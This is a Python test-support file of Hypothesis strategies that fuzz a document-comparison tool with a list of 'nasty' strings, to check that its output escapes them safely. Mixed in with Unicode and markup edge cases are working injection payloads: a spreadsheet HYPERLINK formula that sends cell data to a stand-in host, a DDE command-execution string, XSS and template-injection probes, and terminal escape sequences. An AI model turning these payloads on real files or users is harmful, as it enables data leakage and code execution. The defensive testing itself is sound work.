"""Texts that break outputs, and hypothesis strategies for comparisons made of them."""

from __future__ import annotations

from hypothesis import strategies as st

from cwgdiff.model import Change, Clause, Comparison, Diagnostic, Edit
from tests.support.comparisons import change, clause, comparison, source

NASTY = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"shall")',
    "+2+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "'tis",
    "'=1",
    "  =1",
    "＝1+1",
    "x;=cmd|x",
    "x;\t@y",
    "[States][/] shall [red]share[/] [[data]] [TBD] [bold",
    "[^]",
    "<script>alert('x')</script><img src=x onerror=alert(1)>{{7*7}}{% x %}${7*7}",
    "<r><t>raw</t></r>",
    "<r>x</r>",
    "]]> &amp; &lt;w:p/&gt; A&B <!-- x -->",
    "_x000D_ _x0041_",
    "_x000D_x000D_x0041_",
    "_x005F_",
    "_x000d_",
    "\x00 \x0b \x01 \ufffe \uffff \x1b[2J\x1b]0;owned\x07",
    "\ud800",
    "a\udfffb",
    "\r\n",
    "\r",
    "\u202elahs\u202c",
    "sh\u200ball",
    "e\u0301",
    "\U000e0020\U000e006e",
    "\ue001\uf8ff",
    "\ufdd0",
    "\u2028\u2029\x85",
    "⟦U+202E⟧",
    "⟦",
    "⟧",
    "⟦⟦U+0041⟧",
    "| a | [shall](javascript:alert(1)) ``` ` \\| <br> # h",
    "\\",
    "\\|",
    "**b** ~~s~~ *i* __u__ ~ ~~",
    "[-may-] {+must+} -] +} [- {+",
    "http://example.org www.example.org @user $x$ :+1:",
    " lead",
    "trail ",
    "  ",
    "a  b",
    "\ttab\t",
    "line\nfeed",
    "\n",
    "\n\n",
    "a\n",
    "إذ يدرك أن الفجوة (WSIS 2005) لا تزال",
    "认识到缩小数字鸿沟",
    "𝐁 😀",
    "l'État – «\u00a0qu'il\u202f;\u00a0»",
)
LONG = "mot " * 12_000  # fmt: skip

_signs = st.characters(codec=None, categories=None)
_texts = st.one_of(
    st.sampled_from(NASTY),
    st.text(_signs, max_size=12),
    st.text("ab =-+@'\t\n_x0D[]{}<>|~*`\\&\u00a0\u200b⟦⟧é\u0301", max_size=14),
)


@st.composite
def edit_lists(draw: st.DrawFn) -> tuple[Edit, ...]:
    """Any edits, none empty; neighbours may have the same sign."""
    found = draw(st.lists(st.tuples(st.sampled_from("=-+"), _texts), max_size=6))
    return tuple(Edit(op, text) for op, text in found if text)  # type: ignore[arg-type]


@st.composite
def changes(draw: st.DrawFn) -> Change:
    edits = draw(edit_lists())
    base = "".join(edit.text for edit in edits if edit.op != "+")
    revised = "".join(edit.text for edit in edits if edit.op != "-")
    old = draw(_cut(base)) if base else []
    new = draw(_cut(revised)) if revised else []
    if old and new:
        if len(old) > 1:
            new = [revised]
        kind = "merged" if len(old) > 1 else "split" if len(new) > 1 else None
        kind = kind or ("unchanged" if all(edit.op == "=" for edit in edits) else "modified")
    elif old:
        kind, old = "deleted", [base]
    else:
        kind, new = "added", [revised]
    return change(
        kind,  # type: ignore[arg-type]
        [draw(_clauses(text)) for text in old],
        [draw(_clauses(text)) for text in new],
        moved=draw(st.booleans()) and bool(old and new),
        doubtful=draw(st.booleans()),
        reason=draw(_texts),
        similarity=draw(st.one_of(st.none(), st.floats(0, 1))),
        own_edits=edits,
    )


@st.composite
def _cut(draw: st.DrawFn, text: str) -> list[str]:
    """The text as one clause, or cut at its line feeds into several."""
    return text.split("\n") if draw(st.booleans()) else [text]


@st.composite
def _clauses(draw: st.DrawFn, text: str) -> Clause:
    return clause(
        draw(_texts), text, kind=draw(st.sampled_from(["item", "section", "header", "unplaced"])),
        label=draw(st.one_of(st.none(), _texts)), section=draw(st.one_of(st.none(), _texts)),
    )  # fmt: skip


@st.composite
def comparisons(draw: st.DrawFn) -> Comparison:
    """A comparison of up to four rows with nasty texts, names, labels, paths and warnings."""
    warnings = draw(
        st.lists(st.builds(Diagnostic, st.just("code"), st.just("info"), _texts), max_size=2)
    )
    return comparison(
        *draw(st.lists(changes(), max_size=4)),
        diagnostics=tuple(warnings),
        base=source(draw(_texts), draw(st.sampled_from([None, "fr", "ar", "zh"]))),
        revised=source(draw(_texts), draw(st.sampled_from([None, "fr", "ar", "zh"]))),
    )


def plain_nasty() -> Comparison:
    """Each nasty text added, deleted, kept, and changed into the next one."""
    found = []
    texts = (*NASTY, LONG, "=" + LONG + "[fin]")
    for text, after in zip(texts, (*texts[1:], texts[0]), strict=True):
        found += [
            change("added", [], [clause(text[:50], text, label="a)")]),
            change("deleted", [clause(text[:50], text, label=text[:9])], []),
            change("unchanged", [clause("p", text)], [clause("q", text)]),
            change("modified", [clause("p", text)], [clause("p", after)],
                   own_edits=(Edit("-", text), Edit("+", after))),
            change("modified", [clause("p", f"un {text} deux")], [clause("p", f"un {after} deux")],
                   own_edits=(Edit("=", "un "), Edit("-", text), Edit("+", after), Edit("=", " deux"))),
        ]  # fmt: skip
    return comparison(*found)


def many_fragments() -> Comparison:
    """Every other word changes, three thousand times: cells of very many runs."""
    edits: list[Edit] = []
    for number in range(3000):
        edits += [Edit("-", f"w{number}"), Edit("+", f"v{number}"), Edit("=", " même ")]
    base = "".join(edit.text for edit in edits if edit.op != "+")
    revised = "".join(edit.text for edit in edits if edit.op != "-")
    return comparison(
        change("modified", [clause("a", base)], [clause("a", revised)], own_edits=tuple(edits))
    )
